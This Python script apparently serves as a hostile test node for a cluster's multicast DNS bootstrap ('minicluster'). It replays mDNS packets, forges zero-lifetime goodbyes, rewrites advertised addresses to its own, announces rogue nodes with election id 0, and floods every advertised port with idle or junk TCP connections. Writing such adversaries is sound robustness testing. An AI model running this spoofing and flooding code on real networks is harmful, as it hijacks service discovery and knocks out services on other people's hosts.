#!/usr/bin/env python3
"""A stranger on the network, without the secret: repeats, forges and floods until it is killed.

    stranger.py OWN-ADDRESS

Each multicast DNS packet that it hears it sends again as it was (a replay), with all lifetimes zero (a forged goodbye),
and with every IPv4 address replaced by its own; it announces nodes of its own with election id 0; and it floods every
port that was announced with connections that say nothing, or something else. Says `ready` when it begins.
"""

import socket
import struct
import sys
import threading

GROUP, PORT = "224.0.0.251", 5353
OWN = sys.argv[1]


def skip_name(packet: bytes, at: int) -> int:
    """Where the name at this place ends."""
    while packet[at]:
        if packet[at] >= 0xC0:
            return at + 2
        at += packet[at] + 1
    return at + 1


def records(packet: bytes):
    """Of each record: its type, and where its lifetime and its data are."""
    questions, *counts = struct.unpack_from("!4H", packet, 4)
    at = 12
    for _ in range(questions):
        at = skip_name(packet, at) + 4
    for _ in range(sum(counts)):
        at = skip_name(packet, at)
        kind, _, _, length = struct.unpack_from("!HHIH", packet, at)
        yield kind, at + 4, at + 10
        at += 10 + length


def forged(packet: bytes) -> list[bytes]:
    """The packet as it was, as a goodbye, and with the stranger's address."""
    goodbye, moved = bytearray(packet), bytearray(packet)
    for kind, lifetime, data in records(packet):
        goodbye[lifetime : lifetime + 4] = bytes(4)
        if kind == 1:
            moved[data : data + 4] = socket.inet_aton(OWN)
    return [packet, bytes(goodbye), bytes(moved)]


def name(*labels: str) -> bytes:
    """A name as DNS writes it."""
    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"


def record(owner: bytes, kind: int, data: bytes) -> bytes:
    """A resource record that lives two minutes."""
    return owner + struct.pack("!HHIH", kind, 1, 120, len(data)) + data


def announcement(number: int) -> bytes:
    """A node with election id 0 that nobody knows."""
    service = ("_btstrp", "_tcp", "local")
    instance, host = name(f"rogue{number}", *service), name(f"rogue{number}", "local")
    texts = [b"election_id=0", b"id=0", b"incarnation=%016x" % number, b"cluster=minicluster", b"mac=" + b"0" * 32]
    text = b"".join(bytes([len(it)]) + it for it in texts)
    answers = [
        record(name(*service), 12, instance),
        record(instance, 33, struct.pack("!3H", 0, 0, 9) + host),
        record(instance, 16, text),
        record(host, 1, socket.inet_aton(OWN)),
    ]
    return struct.pack("!6H", 0, 0x8400, 0, len(answers), 0, 0) + b"".join(answers)


def flood(address: str, port: int) -> None:
    """Connections that are held open, that say nothing, or something else, for as long as there is somebody."""
    held = []
    for number in range(1_000_000):
        try:
            connection = socket.create_connection((address, port), timeout=1)
        except OSError:
            return
        if number % 2:
            connection.sendall(b"mc-elec1" + bytes(300))
        held = [*held[-200:], connection]


def main() -> None:
    """Listens, and answers with what is forged."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", PORT))
    membership = socket.inet_aton(GROUP) + socket.inet_aton(OWN)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(OWN))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    print("ready", flush=True)
    flooded = set()
    for number in range(1_000_000):
        sock.sendto(announcement(number % 50), (GROUP, PORT))
        packet, (address, _) = sock.recvfrom(9000)
        try:
            for it in forged(packet):
                sock.sendto(it, (GROUP, PORT))
            for kind, _, data in records(packet):
                port = struct.unpack_from("!H", packet, data + 4)[0] if kind == 33 else 0
                if port and (address, port) not in flooded:
                    flooded.add((address, port))
                    threading.Thread(target=flood, args=(address, port), daemon=True).start()
        except (IndexError, struct.error):
            continue


main()
